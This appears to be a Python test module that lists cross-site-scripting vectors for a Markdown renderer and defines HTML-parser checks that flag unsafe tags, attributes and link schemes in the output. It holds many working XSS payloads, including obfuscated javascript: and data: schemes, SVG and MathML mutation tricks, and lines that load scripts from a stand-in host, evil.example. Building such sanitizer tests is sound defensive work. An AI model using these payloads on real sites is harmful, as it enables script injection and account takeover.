"""Ways a stranger's Markdown has been made to run as code, and a judge of what came out.

The vectors follow the families of the public cheat sheets: raw HTML, event handlers, schemes and their
disguises, SVG and MathML name spaces, mutation through re-parsing, Markdown's own syntax, attribute
break-outs and encodings.
"""

from collections.abc import Iterator
from html.parser import HTMLParser

_ALERT = "alert(1)"

_HANDLERS = [
    f'<{tag} {event}="{_ALERT}"{rest}>'
    for tag, event, rest in [
        ("img src=x", "onerror", ""),
        ("img src=/x", "ONERROR", "/"),
        ("svg", "onload", ""),
        ("svg/", "onload", "//"),
        ("body", "onload", ""),
        ("body", "onpageshow", ""),
        ("video autoplay", "onplay", "><source src=x"),
        ("video", "onerror", "><source src=x"),
        ("audio src=x", "onerror", ""),
        ("details open", "ontoggle", ""),
        ("input autofocus", "onfocus", ""),
        ("select autofocus", "onfocus", ""),
        ("textarea autofocus", "onfocus", ""),
        ("button popovertarget=x", "onclick", ""),
        ("div id=x popover", "onbeforetoggle", ""),
        ("marquee", "onstart", ""),
        ("iframe", "onload", ""),
        ("object data=x", "onerror", ""),
        ("a href=# id=x tabindex=1", "onfocusin", ""),
        ("p", "onmouseover", ">hover</p"),
        ("b", "onpointerenter", ">x</b"),
        ("table", "onclick", "><tr><td>x</table"),
        ("code", "onclick", ">x</code"),
        ("pre", "onscroll", ">x</pre"),
        ("blockquote", "onwheel", ">x</blockquote"),
        ("div contenteditable", "onbeforeinput", ""),
        ("dialog open", "onclose", ""),
        ("link rel=stylesheet href=x", "onerror", ""),
        ("style", "onload", ">x</style"),
        ("xss style=animation-name:x", "onanimationstart", ""),
        ("progress", "ontransitionend", ""),
        ("mark class=hidden-text", "onclick", ">x</mark"),
    ]
]

_ELEMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type=module>import('//evil.example/x.js')</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    '<div style="background:url(//evil.example/x)">x</div>',
    '<p style="position:fixed;inset:0">x</p>',
    "<template><script>alert(1)</script></template>",
    "<portal src=//evil.example></portal>",
    "<img src=//evil.example/pixel.gif>",
    '<img srcset="//evil.example/x 1x">',
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<video poster=//evil.example/x>",
    "<audio src=//evil.example/x autoplay>",
    "<input autofocus type=password name=password>",
    "<textarea>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "</main></div></body><script>alert(1)</script>",
    "<div id=content></div><a name=getElementById></a>",
    "<form id=search><input name=action></form>",
    '<button hx-get="//evil.example/x" hx-trigger="load">x</button>',
    '<div data-hx-get="/accounts/logout/" data-hx-trigger="load">x</div>',
    '<a href="https://example.org" ping="//evil.example/x">x</a>',
    '<a href="https://example.org" target="_top" rel="opener">x</a>',
    '<a href="https://example.org" download="run.exe">x</a>',
]

_FOREIGN = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=//evil.example/x.svg#x>",
    "<svg><image href=//evil.example/x>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img onerror=alert(1)>'>",
    "<table><svg><style></table><img src=x onerror=alert(1)></style></svg>",
]

_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "javascript://%0d%0aalert(1)//https://example.org",
    "javascript:void(0)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:https://example.org!/x",
    "ms-word:ofe|u|https://evil.example",
    "intent://x#Intent;scheme=javascript;end",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/accounts/logout/",
    "?q=x",
    "#content",
    "https:alert(1)",
    "http://[",
    "https://example.org:port/",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
]

_MARKDOWN = [
    "![x](//evil.example/pixel.gif)",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](x)',
    '![x](x" onerror="alert(1))',
    "![x](x 'y\" onload=\"alert(1)')",
    "![<script>alert(1)</script>](x)",
    "![![x](a)](javascript:alert(1))",
    "[![x](//evil.example/x)](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'title'",
    "[x]: data:text/html,<script>alert(1)</script>\n\n![x]",
    "[x](<javascript:alert(1)>)",
    "[x](&#x6A;avascript:alert\\(1\\))",
    "[x](https://example.org)[y](javascript:alert(1))",
    "[a](b[c](javascript:alert(1)))",
    "```<script>alert(1)</script>\ncode\n```",
    '```"onmouseover=alert(1)\ncode\n```',
    "~~~html\n</code></pre><script>alert(1)</script>\n~~~",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "| x |\n|:-:|\n| [y](javascript:alert(1)) |",
    "# <svg onload=alert(1)>",
    "# x {#id onclick=alert(1)}",
    "> <iframe src=javascript:alert(1)>",
    "- <b onclick=alert(1)>x",
    "1000000000000. <script>alert(1)</script>",
    "**<script>**alert(1)**</script>**",
    "\\<script>alert(1)\\</script>",
    "<https://example.org/<script>alert(1)</script>>",
    "<mailto:x@example.org?body=<script>alert(1)</script>>",
    '<x@example.org"onclick=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ 7*7 }}{% debug %}",
    "{% load static %}{{ request.user }}",
    "---\ntitle: <script>alert(1)</script>\n---\n",
    "<div markdown=1>[x](javascript:alert(1))</div>",
    "\u202e<script>alert(1)</script>\u202c",
]

VECTORS = [
    *_HANDLERS,
    *_ELEMENTS,
    *_FOREIGN,
    *(f"[x]({target})" for target in _SCHEMES),
    *(f'<a href="{target}">x</a>' for target in _SCHEMES[:12]),
    *(f"<{target}>" for target in _SCHEMES[:4]),
    *_MARKDOWN,
]

_TAGS = {
    *("h3", "h4", "h5", "h6", "p", "hr", "blockquote", "pre", "div", "ul", "ol", "li"),
    *("table", "thead", "tbody", "tr", "th", "td"),
    *("a", "br", "code", "del", "em", "mark", "s", "small", "span", "strong"),
}
_ATTRIBUTES = {"href", "rel", "class", "tabindex", "start"}
_CLASSES = {"hidden-text", "no-image", "scroll", "end", "centre"}
_SCHEMES_ALLOWED = ("https:", "http:", "mailto:")


def dangers(html: str) -> Iterator[str]:
    """Yield what in `html`, read as a browser reads it, could run, load, post, restyle or lead astray."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    yield from judge.found


def page_dangers(html: str) -> Iterator[str]:
    """Yield what in a whole page of ours was not put there by us: inline code, styles, frames, images."""
    judge = _PageJudge()
    judge.feed(html)
    judge.close()
    yield from judge.found


class _Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.found.append(f"element {tag}")
        for name, value in attrs:
            if name not in _ATTRIBUTES:
                self.found.append(f"attribute {tag} {name}")
            if name == "href" and not (value or "").startswith(_SCHEMES_ALLOWED):
                self.found.append(f"target {value}")
            if name == "class" and value not in _CLASSES:
                self.found.append(f"class {value}")
        if tag == "a" and dict(attrs).get("rel") != "ugc nofollow noopener":
            self.found.append("link without rel")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"instruction {data}")


class _PageJudge(HTMLParser):
    _FORBIDDEN = frozenset({"base", "embed", "frame", "iframe", "img", "math", "object", "style", "video"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in self._FORBIDDEN:
            self.found.append(f"element {tag}")
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.found.append("script of its own")
        if tag == "form" and not given.get("action", "/").startswith("/"):
            self.found.append(f"form to {given['action']}")
        self.found += [
            f"attribute {tag} {name}" for name in given if name.startswith("on") or name == "style"
        ]
        target = given.get("href", "") or given.get("src", "")
        if target and not target.startswith(("/", "#", "?", "https://", "http://", "mailto:")):
            self.found.append(f"target {target}")
